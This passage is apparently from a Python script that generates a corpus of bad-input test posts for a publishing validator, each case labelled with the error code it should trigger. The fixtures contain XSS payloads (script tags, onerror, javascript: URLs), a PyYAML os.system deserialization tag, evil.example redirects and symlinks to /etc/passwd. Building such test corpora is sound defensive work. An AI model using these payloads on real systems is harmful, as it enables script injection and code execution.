        "foto;id.jpg",
        photo(),
    )
    c.add(
        "path_collision_case",
        "PATH_COLLISION",
        "",
        None,
        "§7 #59: Foto.jpg and foto.jpg in one folder (case-insensitive twins).",
        post(),
        {"foto.jpg": photo(), "Foto.jpg": photo(1)},
    )


def _markdown_cases(c: _Corpus) -> None:
    c.add(
        "body_empty",
        "BODY_EMPTY",
        "",
        None,
        "§6.4/completeness: front matter only, no body.",
        front(),
    )

    def body(bad: str) -> str:
        return f"Narasi kegiatan dalam beberapa kalimat.\n\n{bad}\n\nParagraf penutup.\n"

    md = (
        ("md_script", "MD_RAW_HTML", "<script>alert(1)</script>", "§7 #60: <script> block."),
        (
            "md_img_onerror",
            "MD_RAW_HTML",
            "Lihat foto <img src=x onerror=alert(1)> ini.",
            "§7 #60: inline <img onerror>.",
        ),
        (
            "md_iframe",
            "MD_RAW_HTML",
            '<iframe src="https://x.example"></iframe>',
            "§7 #60: <iframe> block.",
        ),
        (
            "md_html_comment",
            "MD_RAW_HTML",
            "<!-- teks tersembunyi dari peninjau -->",
            "§7 #60: an HTML comment hiding text from reviewers.",
        ),
        (
            "md_attr_heading",
            "MD_ATTR_FORBIDDEN",
            '## Judul {: onmouseover="alert(1)" }',
            "§7 #61: attr_list onmouseover on a heading.",
        ),
        (
            "md_attr_link",
            "MD_ATTR_FORBIDDEN",
            'Baca [tautan](https://www.pertanian.go.id/){: onclick="alert(1)" } ini.',
            "§7 #61: attr_list onclick on a link.",
        ),
        (
            "md_url_javascript",
            "MD_URL_SCHEME",
            "Klik [x](javascript:alert(1)) ini.",
            "§7 #62: javascript: link.",
        ),
        (
            "md_url_mixed_case",
            "MD_URL_SCHEME",
            "Klik [x](JaVaScRiPt:alert(1)) ini.",
            "§7 #62: JaVaScRiPt: link (mixed case).",
        ),
        (
            "md_url_entity",
            "MD_URL_SCHEME",
            "Klik [x](jav&#x61;script:alert(1)) ini.",
            "§7 #62: javascript: spelled with an HTML entity.",
        ),
        (
            "md_url_protocol_relative",
            "MD_URL_SCHEME",
            "Klik [x](//evil.example/a) ini.",
            "§7 #62: protocol-relative //evil.example link.",
        ),
        (
            "md_url_data",
            "MD_URL_SCHEME",
            "Klik [x](data:text/html;base64,PHNjcmlwdD4=) ini.",
            "§7 #62: data:text/html link.",
        ),
        (
            "md_url_vbscript",
            "MD_URL_SCHEME",
            "Klik [x](vbscript:msgbox) ini.",
            "§7 #62: vbscript: link.",
        ),
    )
    for name, code, bad, note in md:
        c.add(name, code, "", bad, note, post(body=body(bad)))


def _yaml_cases(c: _Corpus) -> None:
    c.add("fm_missing", "FM_MISSING", "", "Narasi", "§7 #63: index.md without front matter.", BODY)
    c.add(
        "fm_unclosed",
        "FM_UNCLOSED",
        "",
        "---",
        "§7 #63: front matter never closed by a second ---.",
        front().removesuffix("---\n") + "\n" + BODY,
    )
    second = "title: Judul kedua yang menang diam-diam"
    c.add(
        "yaml_duplicate_title",
        "YAML_DUPLICATE_KEY",
        "title",
        second,
        "§7 #63: title twice (PyYAML keeps the last); line of the second.",
        post(front(date=f"{second}\ndate: 2026-11-20")),
    )
    c.add(
        "yaml_implicit_bool",
        "YAML_IMPLICIT_BOOL",
        "draft",
        "draft: yes",
        "§7 #63 (Norway problem): draft: yes.",
        post(front(extra="draft: yes")),
    )
    c.add(
        "yaml_sexagesimal",
        "YAML_SEXAGESIMAL",
        "readtime",
        "readtime: 1:30",
        "§7 #63: readtime: 1:30 (YAML 1.1 reads 90).",
        post(front(extra="readtime: 1:30")),
    )
    for name, tag in (
        ("yaml_tag_python_apply", "!!python/object/apply:os.system"),
        ("yaml_tag_python_new", "!!python/object/new:os.system"),
    ):
        bad = f'title: {tag} ["touch /tmp/pwned"]'
        c.add(
            name,
            "YAML_TAG_FORBIDDEN",
            "title",
            bad,
            f"§7 #64: title: {tag} [...]; /tmp/pwned must stay absent.",
            post(front(title=bad)),
        )
    c.add(
        "yaml_anchor_alias",
        "YAML_ALIAS_FORBIDDEN",
        "",
        "&judul",
        "§7 #63: an anchor &judul on title and an alias *judul in description.",
        post(front(title="title: &judul Contoh kasus uji", extra="description: *judul")),
    )
    merge = "\n".join(
        ("  instagram: &base", '    caption: "Keterangan khusus."', "  facebook:", "    <<: *base")
    )
    c.add(
        "yaml_merge_key",
        "YAML_ALIAS_FORBIDDEN",
        "social.facebook",
        "<<: *base",
        "§7 #63: a <<: *base merge key (anchor on social.instagram).",
        post(front(caption=f"{_BASE['caption']}\n{merge}")),
    )
    c.add(
        "yaml_tab_indent",
        "YAML_SYNTAX",
        "",
        "\tplatforms",
        "§7 #63: a tab used for indentation under social:.",
        post(front(platforms="\tplatforms: [facebook]")),
    )
    c.add(
        "yaml_unclosed_quote",
        "YAML_SYNTAX",
        "",
        "title:",
        "§3.6: title opens a double quote never closed (PyYAML notices 3 lines later).",
        post(front(title='title: "Contoh kasus uji')),
    )
    line = item("foto.jpg").removesuffix('"}') + "}"
    c.add(
        "yaml_unclosed_quote_last",
        "YAML_SYNTAX",
        "",
        line,
        "§3.6: the last value (alt) opens a double quote never closed: end of stream.",
        post(front(items=line)),
    )
    c.add(
        "yaml_invalid_date",
        "YAML_INVALID_DATE",
        "date",
        "date: 2026-02-30",
        "§7 #63: date: 2026-02-30 (PyYAML raises ValueError, not YAMLError).",
        post(front(date="date: 2026-02-30")),
    )
    c.add(
        "yaml_datetime_no_offset",
        "DATETIME_NO_OFFSET",
        "publish_at",
        "publish_at:",
        "§7 #63: publish_at: 2026-11-21 09:00:00 (naive, no UTC offset).",
        post(front(extra="publish_at: 2026-11-21 09:00:00")),
    )
    c.add(
        "schema_missing_title",
        "SCHEMA_MISSING",
        "title",
        None,
        "§3.6 schema: no title key.",
        post(front(title=None)),
    )
    line = item("foto.jpg").replace(", kind: photo", "")
    c.add(
        "schema_missing_kind",
        "SCHEMA_MISSING",
        "media[0].kind",
        line,
        "§3.6 schema: media item without kind.",
        post(front(items=line)),
    )
    c.add(
        "schema_title_list",
        "SCHEMA_TYPE",
        "title",
        "title:",
        "§3.6 schema: title: [a, b].",
        post(front(title="title: [a, b]")),
    )
    c.add(
        "schema_platforms_string",
        "SCHEMA_TYPE",
        "social.platforms",
        "platforms:",
        "§3.6 schema: platforms: facebook (a string, not a list).",
        post(front(platforms="  platforms: facebook")),
    )
    c.add(
        "schema_platform_typo",
        "SCHEMA_CHOICE",
        "social.platforms[0]",
        "platforms:",
        "§3.6 schema: platforms: [instagrm].",
        post(front(platforms=platforms("instagrm"))),
    )
    line = item("foto.jpg", "foto")
    c.add(
        "schema_kind_foto",
        "SCHEMA_CHOICE",
        "media[0].kind",
        line,
        "§3.6 schema: kind: foto (Indonesian for photo).",
        post(front(items=line)),
    )
    bad_bytes = b'  caption: "Keterangan \xed\xa0\x80 singkat."'
    raw = post().encode().replace(f'  caption: "{CAPTION}"'.encode(), bad_bytes)
    c.add(
        "text_invalid_utf8",
        "TEXT_ENCODING",
        "",
        b"\xed\xa0\x80",
        "§7 #65: index.md holds the bytes ED A0 80 (an encoded lone surrogate) in caption.",
        raw,
    )
    c.add(
        "unknown_key_titel",
        "UNKNOWN_KEY",
        "titel",
        "titel:",
        "§3.6 schema: an unknown key titel: besides title (warning).",
        post(front(extra="titel: Contoh kasus uji")),
        severity="warning",
    )


def _text_cases(c: _Corpus) -> None:
    def in_caption(name: str, code: str, text: str, note: str) -> None:
        line = caption(text)
        c.add(name, code, "social.caption", line, note, post(front(caption=line)))

    in_caption(
        "text_bidi_rlo",
        "TEXT_BIDI_CONTROL",
        "Panen raya \u202eadap\u202c di Bogor.",
        "§7 #65: U+202E (RLO) in the caption.",
    )
    in_caption(
        "text_bidi_unbalanced_isolate",
        "TEXT_BIDI_CONTROL",
        "Panen raya \u2066di Bogor tanpa penutup.",
        "§7 #65: U+2066 (LRI) never closed by U+2069.",
    )
    in_caption(
        "text_zwsp_hashtag",
        "TEXT_INVISIBLE_CHAR",
        "Panen raya di Bogor. #Padi\u200bUnggul",
        "§7 #65: ZWSP U+200B inside the hashtag #PadiUnggul.",
    )
    in_caption(
        "text_bom_mid_caption",
        "TEXT_INVISIBLE_CHAR",
        "Panen raya\ufeff di Bogor.",
        "§7 #65: U+FEFF in the middle of the caption.",
    )
    in_caption(
        "text_tag_char",
        "TEXT_INVISIBLE_CHAR",
        "Panen raya di Bogor\U000e0041.",
        "§7 #65: tag character U+E0041 in the caption.",
    )
    escaped = r'title: "Contoh \e[31mkasus uji"'
    c.add(
        "text_control_esc_escaped",
        "TEXT_CONTROL_CHAR",
        "title",
        escaped,
        r'§7 #65: title "\e[31m..." (YAML escape for ESC, an ANSI colour code).',
        post(front(title=escaped)),
    )
    c.add(
        "text_control_esc_raw",
        "TEXT_CONTROL_CHAR",
        "title",
        "title:",
        "§7 #65: a raw ESC byte (0x1B) in the title (PyYAML's reader refuses it).",
        post(front(title='title: "Contoh \x1b[31mkasus uji"')),
    )
    bad_body = "Narasi kegiatan dalam beberapa kalimat.\n\nBaris dengan NUL\x00 di tengah.\n"
    c.add(
        "text_control_nul_body",
        "TEXT_CONTROL_CHAR",
        "",
        "Baris dengan NUL",
        "§7 #65: a raw NUL byte in the Markdown body.",
        post(body=bad_body),
    )

    def x_text(weight: int) -> str:  # plain ASCII: weight == length
        return _exact("Petani Bogor memanen padi unggul bersama penyuluh pertanian. ", weight)

    def limit_case(name: str, platform: str, text: str, code: str, note: str) -> None:
        line = caption(text)
        c.add(
            name,
            code,
            "social.caption" if code else "",
            line if code else None,
            note,
            post(front(platforms=platforms(platform), caption=line)),
        )

    limit_case(
        "text_x_281",
        "x",
        x_text(281),
        "TEXT_TOO_LONG",
        "§7 #66: X caption of 281 weighted characters (plain ASCII).",
    )
    limit_case(
        "text_x_exactly_280",
        "x",
        x_text(280),
        "",
        "§7 #66: X caption of exactly 280 weighted characters: accepted.",
    )
    urls = (
        "Info: https://www.pertanian.go.id/ dan https://ppid.pertanian.go.id/ "
        "\U0001f469\u200d\U0001f33e\U0001f1ee\U0001f1e9 "
    )
    # 2 URLs weigh 23 each, the woman-farmer ZWJ sequence and the flag weigh 2 each.
    fixed = len("Info: " + " dan " + " " + " ") + 2 * 23 + 2 * 2
    limit_case(
        "text_x_280_urls_emoji",
        "x",
        urls + _exact("Panen raya padi di Bogor. ", 280 - fixed),
        "",
        "§7 #66: X 280 weighted: 2 URLs (23 each), a ZWJ emoji and a flag (2 each).",
    )
    ig = "Panen raya padi unggul di Bogor bersama penyuluh dan kelompok tani. "
    limit_case(
        "text_ig_2201",
        "instagram",
        _exact(ig, 2201),
        "TEXT_TOO_LONG",
        "§7 #66: Instagram caption of 2,201 characters.",
    )
    limit_case(
        "text_ig_exactly_2200",
        "instagram",
        _exact(ig, 2200),
        "",
        "§7 #66: Instagram caption of exactly 2,200 characters: accepted.",
    )
    tags = "  hashtags: [pertanian, panen, padi, petani, kementan, pangan]"
    c.add(
        "text_ig_6_hashtags",
        "TEXT_TOO_MANY_HASHTAGS",
        "social.hashtags",
        "hashtags:",
        "§3.7: 6 hashtags for Instagram (limit 5).",
        post(front(platforms=platforms("instagram"), caption=f"{_BASE['caption']}\n{tags}")),
    )


def _exact(words: str, count: int) -> str:
    """`words` repeated and cut to exactly `count` characters, ending in a full stop."""
    text = (words * (count // len(words) + 2))[: count - 1]
    if text.endswith(" "):
        text = text[:-1] + "a"
    return text + "."


def _complete_cases(c: _Corpus) -> None:
    line = item("foto.jpg", alt=None)
    c.add(
        "alt_missing_key",
        "ALT_MISSING",
        "media[0].alt",
        line,
        "§6/completeness: a photo without alt.",
        post(front(items=line)),
    )
    line = item("foto.jpg", alt="")
    c.add(
        "alt_empty",
        "ALT_MISSING",
        "media[0].alt",
        line,
        '§6/completeness: a photo with alt: "".',
        post(front(items=line)),
    )
    c.add(
        "credit_missing",
        "CREDIT_MISSING",
        "media",
        "media:",
        "§6/completeness: no credit (neither post nor media item).",
        post(front(credit=None)),
    )
    ig = platforms("instagram")
    c.add(
        "media_required_no_media",
        "MEDIA_REQUIRED",
        "media",
        None,
        "§6/feasibility: platforms: [instagram] and no media key.",
        post(front(platforms=ig, media=None, items=None)),
        {},
    )
    c.add(
        "media_required_empty_list",
        "MEDIA_REQUIRED",
        "media",
        "media: []",
        "§6/feasibility: platforms: [instagram] and media: [].",
        post(front(platforms=ig, media="media: []", items=None)),
        {},
    )

    def photos(count: int) -> tuple[str, dict[str, FileData]]:
        names = [f"foto-{i + 1}.jpg" for i in range(count)]
        return items(*(item(n) for n in names)), {n: photo(i + 1) for i, n in enumerate(names)}

    lines, files = photos(5)
    c.add(
        "platform_x_5_photos",
        "PLATFORM_MEDIA",
        "media",
        "media:",
        "§6/feasibility: X with 5 photos (max 4).",
        post(front(platforms=platforms("x"), items=lines)),
        files,
    )
    lines, files = photos(11)
    c.add(
        "platform_ig_11_photos",
        "PLATFORM_MEDIA",
        "media",
        "media:",
        "§6/feasibility: Instagram carousel of 11 photos (max 10).",
        post(front(platforms=ig, items=lines)),
        files,
    )
    c.add(
        "platform_tiktok_mixed",
        "PLATFORM_MEDIA",
        "media",
        "media:",
        "§6/feasibility: TikTok with a photo and a video mixed, no tiktok.media override.",
        post(front(platforms=platforms("tiktok"), items=items(item("foto.jpg"), VIDEO_ITEM))),
        {"foto.jpg": photo(), "video.mp4": videos()["base"], "video.srt": SRT},
    )


def _site_cases(c: _Corpus) -> None:
    """Issue 12, classes 2 and 3: front-matter strings are plain text; a post folder holds its
    index.md and its media only, and no symlink."""
    markup = (
        ("fm_markup_title_svg", "title", 'title: "Panen <svg><set attributeName=x to=1 /></svg>"'),
        (
            "fm_markup_description_base",
            "description",
            "extra",
            'description: "x <base href=//evil.example/>"',
        ),
        ("fm_markup_credit_css", "credit", 'credit: "Foto: x {width:expression(alert(1))}"'),
    )
    for name, field, *rest in markup:
        key, line = (rest[0], rest[1]) if len(rest) == 2 else (field, rest[0])
        c.add(
            name,
            "TEXT_MARKUP",
            field,
            line,
            f"issue 12 class 2: markup in front matter '{field}'.",
            post(front(**{key: line})),
        )
    lists = (
        ("fm_markup_category_entity", "categories[1]", 'categories: [Kegiatan, "&lt;script&gt;x"]'),
        ("fm_markup_tag_lookalike", "tags[0]", 'tags: ["\uff1csvg onload=alert(1)\uff1e"]'),
        ("fm_markup_tag_meta_refresh", "tags[0]", 'tags: ["<meta http-equiv=refresh content=0>"]'),
    )
    for name, field, line in lists:
        c.add(
            name,
            "TEXT_MARKUP",
            field,
            line,
            f"issue 12 class 2: markup in {field}.",
            post(front(extra=line)),
        )
    line = item("foto.jpg", alt="JaVaScRiPt:alert(1)")
    c.add(
        "fm_markup_alt_script_url",
        "TEXT_MARKUP",
        "media[0].alt",
        line,
        "issue 12 class 2: a javascript: URL (mixed case) as alt text.",
        post(front(items=line)),
    )
    c.add(
        "fm_plain_text_ok",
        "",
        "",
        None,
        "issue 12 class 2: quotes, '<' before a digit, '&' alone and braces are text: accepted.",
        post(front(title="title: 'Panen \"raya\" < 5 ton & R&D {{ x }} 100% a>b'")),
    )
    stray: tuple[tuple[str, str, FileData], ...] = (
        (
            "stray_svg_script",
            "peta.svg",
            '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        ),
        ("stray_svg_upper", "PETA.SVG", '<svg onload="alert(1)"/>'),
        ("stray_html_in_post", "halaman.html", "<script>alert(1)</script>"),
        (
            "stray_xhtml",
            "x.xhtml",
            "<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>",
        ),
        ("stray_double_ext", "foto.jpg.htm", "<script>alert(1)</script>"),
        ("stray_js", "app.js", "alert(1)"),
        ("stray_css", "gaya.css", "body{background:url(https://evil.example/x)}"),
        ("stray_map", "app.js.map", "{}"),
        ("stray_webmanifest", "site.webmanifest", "{}"),
        ("stray_no_extension", "LISENSI", "teks"),
        ("stray_dotfile", ".htaccess", "Redirect / https://evil.example/"),
        ("stray_markdown_page", "lain.md", "# Halaman lain\n\n<script>alert(1)</script>\n"),
    )
    for name, file, data in stray:
        c.add(
            name,
            "CONTENT_FILE_TYPE",
            "",
            None,
            f"issue 12 class 3: a stray {file} in the post folder (never published).",
            post(),
            {"foto.jpg": photo(), file: data},
        )
    for name, target in (
        ("symlink_to_passwd", "/etc/passwd"),
        ("symlink_dir_etc", "/etc"),
        ("symlink_dir_loop", "../.."),
        ("symlink_to_git", "../../../../../.git"),
    ):
        c.add(
            name,
            "CONTENT_SYMLINK",
            "",
            None,
            f"issue 12 class 3: an unlisted symlink to {target} in the post folder.",
            post(),
            {"foto.jpg": photo(), "lampiran": Link(target)},
        )


def _specs() -> list[_Spec]:
    corpus = _Corpus()
    for group in (
        _image_cases,
        _svg_cases,
        _video_cases,
        _path_cases,
        _markdown_cases,
        _yaml_cases,
        _text_cases,
        _complete_cases,
        _site_cases,
    ):
        group(corpus)
    names = [s.case.name for s in corpus.specs]
    duplicates = {n for n in names if names.count(n) > 1}
    if duplicates:
        raise ValueError(f"duplicate case names: {sorted(duplicates)}")
    return corpus.specs


def _with_id(index: bytes, name: str) -> bytes:
    """Every case is its own post with its own `id` (else each would also fail on a missing or
    shared id): written in the blank line after the front matter, so no line moves."""
    end = index.find(b"\n---\n", 3)
    if not index.startswith(b"---\n") or end < 0 or b"\nid:" in index[:end]:
        return index
    ident = f"\nid: {('case-' + name.lower().replace('_', '-'))[:64]}\n---\n".encode()
    rest = index[end + 5 :]
    return index[:end] + ident + (rest[1:] if rest.startswith(b"\n") else rest)


def build(dest: Path) -> list[Case]:
    """Write every case folder under `dest` (replacing earlier builds), return the cases."""
    specs = _specs()
    for spec in specs:
        folder = dest / spec.case.folder
        if folder.is_symlink() or folder.is_file():
            folder.unlink()
        elif folder.exists():
            shutil.rmtree(folder)
        folder.mkdir(parents=True)
        (folder / "index.md").write_bytes(_with_id(spec.index, spec.case.name))
        for name, data in spec.files.items():
            path = folder / name
            if isinstance(data, Link):
                path.symlink_to(data.target)
            elif isinstance(data, str):
                path.write_text(data, encoding="utf-8", newline="\n")
            else:
                path.write_bytes(data)
    return [spec.case for spec in specs]


def readme(cases: list[Case]) -> str:
    """CASES_README.md: one table row per case."""
    rows = [
        "# Bad-input corpus: cases (docs/publishing-model.md §7)",
        "",
        "Generated by `python tests/corpus/make_corpus.py OUT --readme "
        "tests/corpus/CASES_README.md`;",
        "do not edit by hand. Each case is one post folder `OUT/<folder>/` (folder =",
        "`posts/2026/11/<case name with - for _>`) that is valid except for one defect.",
        "",
        "* code `(none: must pass)`: the post must produce no error at all.",
        "* severity `warning`: the code must be reported, and the post must not fail.",
        "* field and line: where the problem must be reported. Line 1 is the opening `---`;",
        "  `-` means no line is expected (a missing key, or a file-level problem).",
        "",
        f"{len(cases)} cases, {sum(1 for c in cases if c.code)} with an expected code.",
        "",
        "| # | case | expected code | severity | field | line | what (§7 number) |",
        "|---|---|---|---|---|---|---|",
    ]
    for number, case in enumerate(cases, 1):
        note = case.note.replace("|", "\\|")
        rows.append(
            f"| {number} | `{case.name}` | {case.code or '(none: must pass)'} | "
            f"{case.severity if case.code else '-'} | {case.field or '-'} | "
            f"{case.line if case.line is not None else '-'} | {note} |"
        )
    return "\n".join(rows) + "\n"


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description="Write the bad-input corpus (§7).")
    parser.add_argument("dest", type=Path, help="output folder (case folders go under posts/)")
    parser.add_argument("--readme", type=Path, default=None, help="also write CASES_README.md")
    args = parser.parse_args(argv)
    start = time.perf_counter()
    cases = build(args.dest)
    if args.readme is not None:
        args.readme.write_text(readme(cases), encoding="utf-8")
    print(f"{len(cases)} cases written to {args.dest} in {time.perf_counter() - start:.1f} s")
    return 0


if __name__ == "__main__":
    sys.exit(main())
